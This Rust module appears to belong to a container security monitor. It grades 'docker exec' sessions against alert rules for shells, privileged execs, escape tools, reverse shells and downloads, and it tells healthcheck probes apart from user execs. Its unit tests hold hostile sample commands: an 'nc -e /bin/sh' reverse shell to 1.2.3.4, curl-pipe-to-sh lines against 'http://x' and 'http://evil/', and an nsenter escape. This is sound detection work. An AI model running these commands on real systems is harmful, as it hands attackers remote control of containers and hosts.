//! Exec sessions (`docker exec`): shells, root and privileged execs, escape and post-
//! exploitation tools. One alert per exec, named after its worst reason; the other reasons
//! are listed in the detail. Healthcheck probes (which the daemon runs as execs) are
//! recognised and never reported.

use super::command_analysis::{self, Analysis, ToolKind};
use super::command_display;
use super::meta::AlertMeta;
use super::{Alert, ContainerRef};
use crate::model::{ContainerFacts, ExecFacts, Healthcheck};
use crate::risk::Severity;
use chrono::{DateTime, Utc};

use Severity::{High as H, Info as I, Low as L, Medium as M};

const RESPOND_SHELL: &str = "Find who ran it (docker events, the daemon's audit or API \
                             proxy logs). If nobody on the team did, isolate the container, \
                             save its filesystem changes (docker diff) and processes \
                             (docker top) as evidence, then rotate the secrets it holds.";

pub const SHELL_TTY: AlertMeta = AlertMeta::new(
    "SW-ACT-EXEC-001",
    M,
    "Interactive shell in container",
    "T1059.004",
    "Unix Shell",
    "A shell with a terminal is hands-on-keyboard access: someone is exploring the container \
     by hand, which attackers do after getting in and operators should rarely need.",
    RESPOND_SHELL,
    10,
);
pub const SHELL_CMD: AlertMeta = AlertMeta::new(
    "SW-ACT-EXEC-002",
    L,
    "Shell command run in container",
    "T1059.004",
    "Unix Shell",
    "A non-interactive shell exec (sh -c '...') runs arbitrary commands inside the workload \
     from outside it, with the container's privileges and secrets.",
    RESPOND_SHELL,
    5,
);
pub const PRIVILEGED: AlertMeta = AlertMeta::new(
    "SW-ACT-EXEC-003",
    H,
    "Privileged exec in container",
    "T1611",
    "Escape to Host",
    "docker exec --privileged gives the process every capability and lifts seccomp and \
     AppArmor for it, even when the container itself is confined: enough to mount host disks \
     or load kernel modules (CIS 5.23).",
    "Confirm who ran it and why; nobody should need --privileged for an exec. Isolate the \
     container and check the host for new mounts, kernel modules and files under /etc.",
    25,
);
pub const ROOT: AlertMeta = AlertMeta::new(
    "SW-ACT-EXEC-004",
    M,
    "Exec as root in a non-root container",
    "T1548",
    "Abuse Elevation Control Mechanism",
    "The container was built to run as an unprivileged user; an exec with -u 0 / -u root \
     steps around that and gets root inside the container (CIS 5.24).",
    "Ask who ran it. Restrict who can reach the Docker API; use an authorization plugin or \
     API proxy that refuses exec -u root.",
    10,
);
pub const ESCAPE: AlertMeta = AlertMeta::new(
    "SW-ACT-EXEC-005",
    H,
    "Container escape tool run by exec",
    "T1611",
    "Escape to Host",
    "nsenter, unshare, mount, debugfs, kernel module loaders, runtime clients and writes to \
     release_agent or core_pattern are how a process leaves its container for the host.",
    "Treat as an active escape attempt: isolate or stop the container now, keep its evidence \
     (docker diff, docker top, logs), and check the host for new processes, mounts, modules, \
     cron jobs and SSH keys.",
    30,
);
pub const REVERSE_SHELL: AlertMeta = AlertMeta::new(
    "SW-ACT-EXEC-006",
    H,
    "Reverse shell started by exec",
    "T1095",
    "Non-Application Layer Protocol",
    "nc -e, socat exec: and /dev/tcp redirections hand a shell to a remote peer: remote \
     control of the container that survives the exec session.",
    "Isolate the container's network, note the remote address in the command, keep evidence \
     and look for the same address elsewhere.",
    20,
);
pub const DOWNLOAD_TO_SHELL: AlertMeta = AlertMeta::new(
    "SW-ACT-EXEC-007",
    H,
    "Downloaded script run by exec",
    "T1105",
    "Ingress Tool Transfer",
    "curl ... | sh runs whatever the remote server sends, unseen and unreviewed: the classic \
     way to install miners, backdoors and toolkits.",
    "Fetch the URL from a safe place to see what it served, isolate the container, and look \
     for new files (docker diff) and processes (docker top).",
    20,
);
pub const DOWNLOAD: AlertMeta = AlertMeta::new(
    "SW-ACT-EXEC-008",
    M,
    "Download tool run by exec",
    "T1105",
    "Ingress Tool Transfer",
    "curl and wget bring tools and payloads into a running container, bypassing the image \
     review.",
    "Check what was downloaded and where it was written (docker diff).",
    5,
);
pub const NET_TOOL: AlertMeta = AlertMeta::new(
    "SW-ACT-EXEC-009",
    M,
    "Raw network tool run by exec",
    "T1095",
    "Non-Application Layer Protocol",
    "nc, ncat and socat open arbitrary connections and listeners: pivoting, data transfer, \
     and a step away from a shell for a remote peer.",
    "Check the peer address and port in the command; isolate the container if it is unknown.",
    5,
);
pub const DECODE: AlertMeta = AlertMeta::new(
    "SW-ACT-EXEC-010",
    M,
    "Payload decoding in container",
    "T1140",
    "Deobfuscate/Decode Files or Information",
    "base64 -d and similar unpack payloads that were encoded to slip past review and logs.",
    "Decode the same input safely to see the payload; look for the file it produced.",
    5,
);
pub const PACKAGE: AlertMeta = AlertMeta::new(
    "SW-ACT-EXEC-011",
    M,
    "Package manager run in container",
    "T1105",
    "Ingress Tool Transfer",
    "Installing software into a running container changes it from the reviewed image: a \
     common first step to add tools (nmap, gcc, nc).",
    "Rebuild the image with what the workload needs instead; find out what was installed \
     (docker diff).",
    5,
);
pub const SCANNER: AlertMeta = AlertMeta::new(
    "SW-ACT-EXEC-012",
    M,
    "Network scanner run in container",
    "T1046",
    "Network Service Discovery",
    "Scanning from inside a container maps the internal network for the next hop.",
    "Isolate the container's network and check its peers for connections from it.",
    5,
);
pub const SNIFFER: AlertMeta = AlertMeta::new(
    "SW-ACT-EXEC-013",
    M,
    "Traffic capture in container",
    "T1040",
    "Network Sniffing",
    "Capturing traffic collects credentials and session tokens of the container's (or, with \
     host networking, the host's) connections.",
    "Find who ran it; rotate credentials that crossed the captured interface.",
    5,
);
pub const KEY_SEARCH: AlertMeta = AlertMeta::new(
    "SW-ACT-EXEC-014",
    M,
    "Credential search in container",
    "T1552.004",
    "Private Keys",
    "Searching for private keys and passwords is credential hunting: the attacker's next \
     step is to use them elsewhere.",
    "Rotate the keys and passwords reachable from the container; check where they are used.",
    5,
);
pub const HISTORY: AlertMeta = AlertMeta::new(
    "SW-ACT-EXEC-015",
    M,
    "Shell history cleared",
    "T1070.003",
    "Clear Command History",
    "Erasing or disabling shell history hides what was typed: defence evasion.",
    "Treat the container as compromised: keep evidence (docker diff, logs) before it is lost.",
    5,
);
pub const COMMAND: AlertMeta = AlertMeta::new(
    "SW-ACT-EXEC-016",
    I,
    "Command run in container",
    "T1609",
    "Container Administration Command",
    "Every docker exec is a command run inside the workload from outside it; recorded so the \
     feed shows who touched what.",
    "Nothing unless it was unexpected.",
    0,
);

/// The exec rules, in catalog order.
pub fn metas() -> Vec<AlertMeta> {
    vec![
        SHELL_TTY,
        SHELL_CMD,
        PRIVILEGED,
        ROOT,
        ESCAPE,
        REVERSE_SHELL,
        DOWNLOAD_TO_SHELL,
        DOWNLOAD,
        NET_TOOL,
        DECODE,
        PACKAGE,
        SCANNER,
        SNIFFER,
        KEY_SEARCH,
        HISTORY,
        COMMAND,
    ]
}

/// The exec rule for a kind of tool.
pub fn tool_meta(kind: ToolKind) -> &'static AlertMeta {
    match kind {
        ToolKind::Escape => &ESCAPE,
        ToolKind::ReverseShell => &REVERSE_SHELL,
        ToolKind::DownloadToShell => &DOWNLOAD_TO_SHELL,
        ToolKind::Download => &DOWNLOAD,
        ToolKind::NetTool => &NET_TOOL,
        ToolKind::Decode => &DECODE,
        ToolKind::PackageManager => &PACKAGE,
        ToolKind::Scanner => &SCANNER,
        ToolKind::Sniffer => &SNIFFER,
        ToolKind::KeySearch => &KEY_SEARCH,
        ToolKind::HistoryClear => &HISTORY,
    }
}

/// Is this user (as `Config.User` or `ProcessConfig.user` spell it) root?
/// Empty means "the image default", which for `Config.User` is root.
pub fn is_root_user(user: &str) -> bool {
    let name = user.split(':').next().unwrap_or("").trim();
    name.is_empty() || name == "root" || name == "0"
}

/// The argv the daemon runs for a healthcheck `Test` (`["CMD", ...]` or
/// `["CMD-SHELL", "<cmd>"]`, which runs as `/bin/sh -c <cmd>`). `None` for `NONE` or an
/// unknown form.
pub fn healthcheck_argv(test: &[String]) -> Option<Vec<String>> {
    let (kind, rest) = test.split_first()?;
    match kind.as_str() {
        "CMD" => Some(rest.to_vec()),
        "CMD-SHELL" => {
            let mut argv = vec!["/bin/sh".to_string(), "-c".to_string()];
            argv.push(rest.join(" "));
            Some(argv)
        }
        _ => None,
    }
}

/// Does an exec's argv equal the healthcheck's? For `CMD-SHELL` another shell of the
/// system's own directories is accepted (`Config.Shell` may replace `/bin/sh -c`), but not
/// a program that is merely named like one: `/tmp/sh -c <the probe>` runs whatever the
/// container planted there.
pub fn matches_healthcheck(command: &[String], test: &[String]) -> bool {
    let Some(expected) = healthcheck_argv(test) else {
        return false;
    };
    // A program whose own name holds a space (`"/bin/sh -c" true`) would match the joined
    // text of a probe: it is never the probe. (An argv rebuilt from an event payload is
    // split at spaces, so its program never holds one.)
    if command
        .first()
        .is_some_and(|p| p.contains(char::is_whitespace))
    {
        return false;
    }
    // Compared as text: an exec rebuilt from its event payload is split at spaces.
    let joined = command.join(" ");
    if joined.trim() == expected.join(" ").trim() {
        return true;
    }
    let script = expected.last().map(String::as_str).unwrap_or("");
    test.first().map(String::as_str) == Some("CMD-SHELL")
        && command.len() >= 3
        && is_system_shell(&command[0])
        && command[1] == "-c"
        && command[2..].join(" ").trim() == script.trim()
}

/// A shell by its absolute path in `/bin` or `/usr/bin` (where a `SHELL` instruction's
/// shell lives).
fn is_system_shell(program: &str) -> bool {
    ["/bin/", "/usr/bin/"].iter().any(|dir| {
        program
            .strip_prefix(dir)
            .is_some_and(|name| !name.contains('/') && command_analysis::is_shell(name))
    })
}

/// Does an `exec_create`/`exec_start` payload (entrypoint and args joined by spaces) equal
/// the healthcheck's command?
pub fn payload_matches_healthcheck(payload: &str, test: &[String]) -> bool {
    let Some(expected) = healthcheck_argv(test) else {
        return false;
    };
    payload.trim() == expected.join(" ").trim()
}

/// Is this exec a healthcheck probe? With the container's healthcheck `Test` known the
/// command must match it exactly (and the exec must look like a probe: no TTY, not
/// privileged, the container's own user). Without it (the facts do not carry `Test`), a
/// container with a configured healthcheck whose exec looks like a probe and runs no known
/// tool is treated as a probe; see `docs/activity-rules.md`.
pub fn is_healthcheck(
    exec: &ExecFacts,
    container: &ContainerFacts,
    known_test: Option<&[String]>,
    analysis: &Analysis,
) -> bool {
    let probe_shaped =
        !exec.tty && !exec.privileged && (exec.user.is_empty() || exec.user == container.user);
    if !probe_shaped {
        return false;
    }
    match known_test {
        Some(test) => matches_healthcheck(&exec.command, test),
        None => {
            // Probes commonly call curl, wget or nc; anything worse is never a probe.
            let probe_tools = analysis.hits.iter().all(|h| {
                matches!(h.kind, ToolKind::Download | ToolKind::NetTool) && h.severity <= M
            });
            matches!(container.healthcheck, Healthcheck::Configured { .. })
                && probe_tools
                && (analysis.shell.is_none() || analysis.inline_script)
        }
    }
}

/// One reason an exec is suspicious.
struct Reason {
    meta: &'static AlertMeta,
    severity: Severity,
    text: String,
}

/// The alert for an exec (healthchecks are filtered by the caller).
pub fn alert(
    exec: &ExecFacts,
    container: Option<&ContainerFacts>,
    analysis: &Analysis,
    time: DateTime<Utc>,
) -> Alert {
    let mut reasons: Vec<Reason> = Vec::new();
    if exec.privileged {
        reasons.push(Reason {
            meta: &PRIVILEGED,
            severity: H,
            text: "--privileged exec (all capabilities, no seccomp or AppArmor)".into(),
        });
    }
    let container_user = container.map(|c| c.user.as_str());
    let effective_user = if exec.user.is_empty() {
        container_user.unwrap_or("")
    } else {
        exec.user.as_str()
    };
    let runs_as_root =
        is_root_user(effective_user) && (container.is_some() || !exec.user.is_empty());
    if let Some(cu) = container_user
        && !exec.user.is_empty()
        && is_root_user(&exec.user)
        && !is_root_user(cu)
    {
        reasons.push(Reason {
            meta: &ROOT,
            severity: M,
            text: format!(
                "exec as root (-u {}) while the container runs as {cu}",
                exec.user
            ),
        });
    }
    for hit in &analysis.hits {
        reasons.push(Reason {
            meta: tool_meta(hit.kind),
            severity: hit.severity,
            text: hit.what.clone(),
        });
    }
    if let Some(shell) = &analysis.shell {
        let (meta, text) = if exec.tty {
            (&SHELL_TTY, format!("interactive {shell} with a TTY"))
        } else if analysis.inline_script {
            (&SHELL_CMD, format!("{shell} -c script"))
        } else {
            (&SHELL_CMD, format!("{shell} without a TTY"))
        };
        // E7: a shell in a privileged container is one step from the host.
        let severity = if container.is_some_and(|c| c.privileged) {
            H
        } else {
            meta.severity
        };
        let text = if severity == H {
            format!("{text} in a privileged container")
        } else {
            text
        };
        reasons.push(Reason {
            meta,
            severity,
            text,
        });
    }
    if reasons.is_empty() {
        let program = exec
            .command
            .first()
            .map(|p| command_analysis::basename(p))
            .unwrap_or_else(|| "(empty command)".into());
        reasons.push(Reason {
            meta: &COMMAND,
            severity: I,
            text: format!("{program} run"),
        });
    }
    // Worst first; ties keep the order above (privileged, root, tools, shell).
    reasons.sort_by_key(|r| std::cmp::Reverse(r.severity));
    let bump = reasons.iter().map(|r| r.meta.score_bump).max().unwrap_or(0);
    let worst = &reasons[0];

    let mut detail = format!(
        "{}; command: {}",
        worst.text,
        command_display::show_argv(&exec.command)
    );
    let user_text = match (exec.user.is_empty(), container_user) {
        (false, _) => exec.user.clone(),
        (true, Some(u)) if !u.is_empty() => format!("{u} (container default)"),
        (true, Some(_)) => "root (container default)".to_string(),
        (true, None) => "container default".to_string(),
    };
    detail.push_str(&format!("; user: {user_text}"));
    if runs_as_root && !user_text.starts_with("root") && !user_text.starts_with('0') {
        detail.push_str(" (root)");
    }
    if exec.tty {
        detail.push_str("; tty");
    }
    if reasons.len() > 1 {
        let others: Vec<&str> = reasons[1..].iter().map(|r| r.text.as_str()).collect();
        detail.push_str(&format!("; also: {}", others.join(", ")));
    }
    let container_ref = ContainerRef {
        id: exec.container_id.clone(),
        name: container.map(|c| c.name.clone()).unwrap_or_default(),
    };
    worst
        .meta
        .alert(time, Some(container_ref), detail)
        .with_severity(worst.severity)
        .with_score_bump(bump)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::risk::rules::test_support;

    fn exec(cmd: &[&str], user: &str, tty: bool, privileged: bool) -> ExecFacts {
        ExecFacts {
            id: "e1".into(),
            container_id: "c1".into(),
            command: cmd.iter().map(|s| s.to_string()).collect(),
            user: user.into(),
            privileged,
            tty,
            running: true,
            exit_code: None,
        }
    }

    fn alert_for(e: &ExecFacts, c: &ContainerFacts) -> Alert {
        let a = command_analysis::analyse_argv(&e.command);
        alert(e, Some(c), &a, DateTime::UNIX_EPOCH)
    }

    #[test]
    fn execs_are_graded_by_their_worst_reason() {
        let root_c = test_support::container("{}");
        let user_c = test_support::container(r#"{"Config": {"User": "1000"}}"#);
        let priv_c = test_support::container(r#"{"HostConfig": {"Privileged": true}}"#);
        let cases: &[(ExecFacts, &ContainerFacts, &str, Severity, u8)] = &[
            (
                exec(&["bash"], "", true, false),
                &root_c,
                "SW-ACT-EXEC-001",
                M,
                10,
            ),
            (
                exec(&["sh", "-c", "id"], "", false, false),
                &root_c,
                "SW-ACT-EXEC-002",
                L,
                5,
            ),
            (
                exec(&["sh"], "", true, false),
                &priv_c,
                "SW-ACT-EXEC-001",
                H,
                10,
            ),
            (
                exec(&["ls"], "", false, true),
                &root_c,
                "SW-ACT-EXEC-003",
                H,
                25,
            ),
            (
                exec(&["ls"], "0", false, false),
                &user_c,
                "SW-ACT-EXEC-004",
                M,
                10,
            ),
            (
                exec(&["ls"], "root", false, false),
                &root_c,
                "SW-ACT-EXEC-016",
                I,
                0,
            ),
            (
                exec(&["ls"], "1000", false, false),
                &user_c,
                "SW-ACT-EXEC-016",
                I,
                0,
            ),
            (
                exec(&["nsenter", "-t", "1", "-m", "sh"], "", true, true),
                &root_c,
                "SW-ACT-EXEC-005",
                Severity::Critical,
                30,
            ),
            (
                exec(&["sh", "-c", "curl -s http://x | sh"], "", false, false),
                &root_c,
                "SW-ACT-EXEC-007",
                H,
                20,
            ),
            (
                exec(&["wget", "http://x/y"], "", false, false),
                &root_c,
                "SW-ACT-EXEC-008",
                M,
                5,
            ),
            (
                exec(&["apk", "add", "nmap"], "", false, false),
                &root_c,
                "SW-ACT-EXEC-011",
                M,
                5,
            ),
            (
                exec(
                    &["sh", "-c", "nc -e /bin/sh 1.2.3.4 4444"],
                    "",
                    false,
                    false,
                ),
                &root_c,
                "SW-ACT-EXEC-006",
                H,
                20,
            ),
        ];
        for (e, c, rule, sev, bump) in cases {
            let a = alert_for(e, c);
            assert_eq!(
                (a.rule.as_str(), a.severity, a.score_bump),
                (*rule, *sev, *bump),
                "{:?}: {}",
                e.command,
                a.detail
            );
            assert_eq!(
                a.container.as_ref().map(|c| c.name.as_str()),
                Some("sw-fixture-default")
            );
        }
    }

    #[test]
    fn other_reasons_are_listed_in_the_detail() {
        let c = test_support::container(r#"{"Config": {"User": "app"}}"#);
        let a = alert_for(&exec(&["sh", "-c", "apk add curl"], "root", true, true), &c);
        assert_eq!(a.rule, "SW-ACT-EXEC-003");
        assert!(a.detail.starts_with("--privileged exec"), "{}", a.detail);
        assert!(
            a.detail.contains("command: sh -c 'apk add curl'"),
            "{}",
            a.detail
        );
        assert!(a.detail.contains("user: root"), "{}", a.detail);
        assert!(a.detail.contains("tty"), "{}", a.detail);
        assert!(
            a.detail
                .contains("also: exec as root (-u root) while the container runs as app"),
            "{}",
            a.detail
        );
        assert!(a.detail.contains("apk (installs software"), "{}", a.detail);
        assert!(
            a.detail.contains("interactive sh with a TTY"),
            "{}",
            a.detail
        );
        assert_eq!(a.technique, "T1611 Escape to Host");
    }

    #[test]
    fn secrets_on_the_exec_command_line_are_redacted() {
        let c = test_support::container("{}");
        let a = alert_for(
            &exec(
                &["mysql", "-uroot", "--password=hunter2", "-e", "select 1"],
                "",
                false,
                false,
            ),
            &c,
        );
        assert!(!a.detail.contains("hunter2"), "{}", a.detail);
        assert!(a.detail.contains("--password=<redacted>"), "{}", a.detail);
        let a = alert_for(
            &exec(
                &[
                    "sh",
                    "-c",
                    "API_TOKEN=abc123 curl -H 'Authorization: Bearer xyz' https://x",
                ],
                "",
                false,
                false,
            ),
            &c,
        );
        assert!(
            !a.detail.contains("abc123") && !a.detail.contains("xyz"),
            "{}",
            a.detail
        );
    }

    #[test]
    fn healthchecks_are_recognised() {
        let shell = vec![
            "CMD-SHELL".to_string(),
            "curl -f http://localhost/ || exit 1".to_string(),
        ];
        let cmd = vec!["CMD".to_string(), "/bin/true".to_string()];
        let shell_true = vec!["CMD-SHELL".to_string(), "true".to_string()];
        let cases: &[(&[&str], &[String], bool)] = &[
            (
                &["/bin/sh", "-c", "curl -f http://localhost/ || exit 1"],
                &shell,
                true,
            ),
            (
                &["/bin/bash", "-c", "curl -f http://localhost/ || exit 1"],
                &shell,
                true,
            ),
            (
                &["/usr/bin/bash", "-c", "curl -f http://localhost/ || exit 1"],
                &shell,
                true,
            ),
            // A program named `/bin/sh -c`: its argv joins to the probe's text.
            (
                &["/bin/sh -c", "curl -f http://localhost/ || exit 1"],
                &shell,
                false,
            ),
            (&["/bin/sh -c", "true"], &shell_true, false),
            (&["/bin/sh", "-c", "true"], &shell_true, true),
            // Named like a shell, but planted by the container: not the probe.
            (
                &["/x/sh", "-c", "curl -f http://localhost/ || exit 1"],
                &shell,
                false,
            ),
            (
                &["sh", "-c", "curl -f http://localhost/ || exit 1"],
                &shell,
                false,
            ),
            (
                &[
                    "/bin/../tmp/sh",
                    "-c",
                    "curl -f http://localhost/ || exit 1",
                ],
                &shell,
                false,
            ),
            (
                &["/bin/sh", "-c", "curl -f http://evil/ | sh"],
                &shell,
                false,
            ),
            (&["/bin/true"], &cmd, true),
            (&["/bin/true", "x"], &cmd, false),
            (&["sh"], &cmd, false),
            // Rebuilt from an event payload: split at spaces.
            (
                &[
                    "/bin/sh",
                    "-c",
                    "curl",
                    "-f",
                    "http://localhost/",
                    "||",
                    "exit",
                    "1",
                ],
                &shell,
                true,
            ),
        ];
        for (argv, test, want) in cases {
            let argv: Vec<String> = argv.iter().map(|s| s.to_string()).collect();
            assert_eq!(
                matches_healthcheck(&argv, test),
                *want,
                "{argv:?} vs {test:?}"
            );
        }
        assert!(payload_matches_healthcheck(
            "/bin/sh -c curl -f http://localhost/ || exit 1",
            &shell
        ));
        assert!(!payload_matches_healthcheck("/bin/sh -c id", &shell));
    }

    #[test]
    fn healthcheck_probes_are_told_from_user_execs() {
        let with_hc = test_support::container(
            r#"{"Config": {"User": "app", "Healthcheck": {"Test": ["CMD-SHELL", "true"]}}}"#,
        );
        let without = test_support::container("{}");
        let test = vec!["CMD-SHELL".to_string(), "true".to_string()];
        let probe = exec(&["/bin/sh", "-c", "true"], "app", false, false);
        let check = |e: &ExecFacts, c: &ContainerFacts, t: Option<&[String]>| {
            is_healthcheck(e, c, t, &command_analysis::analyse_argv(&e.command))
        };
        // Known test: exact match only.
        assert!(check(&probe, &with_hc, Some(&test)));
        assert!(!check(
            &exec(&["/bin/sh", "-c", "id"], "app", false, false),
            &with_hc,
            Some(&test)
        ));
        // A probe never has a TTY, privileges or another user.
        assert!(!check(
            &exec(&["/bin/sh", "-c", "true"], "app", true, false),
            &with_hc,
            Some(&test)
        ));
        assert!(!check(
            &exec(&["/bin/sh", "-c", "true"], "0", false, false),
            &with_hc,
            Some(&test)
        ));
        assert!(!check(
            &exec(&["/bin/sh", "-c", "true"], "", false, true),
            &with_hc,
            Some(&test)
        ));
        // Unknown test: probe-shaped, tool-free execs in a container with a healthcheck.
        assert!(check(&probe, &with_hc, None));
        assert!(!check(&probe, &without, None));
        assert!(!check(
            &exec(&["/bin/sh", "-c", "curl x | sh"], "", false, false),
            &with_hc,
            None
        ));
        assert!(check(
            &exec(&["/bin/sh", "-c", "curl -f localhost"], "", false, false),
            &with_hc,
            None
        ));
        assert!(!check(
            &exec(&["/bin/sh", "-c", "apk add nmap"], "", false, false),
            &with_hc,
            None
        ));
        assert!(!check(&exec(&["sh"], "", false, false), &with_hc, None));
    }

    #[test]
    fn every_tool_kind_has_a_rule_in_the_family() {
        let ids: Vec<&str> = metas().iter().map(|m| m.id).collect();
        for kind in [
            ToolKind::Escape,
            ToolKind::ReverseShell,
            ToolKind::DownloadToShell,
            ToolKind::Download,
            ToolKind::NetTool,
            ToolKind::Decode,
            ToolKind::PackageManager,
            ToolKind::Scanner,
            ToolKind::Sniffer,
            ToolKind::KeySearch,
            ToolKind::HistoryClear,
        ] {
            assert!(ids.contains(&tool_meta(kind).id));
        }
    }
}
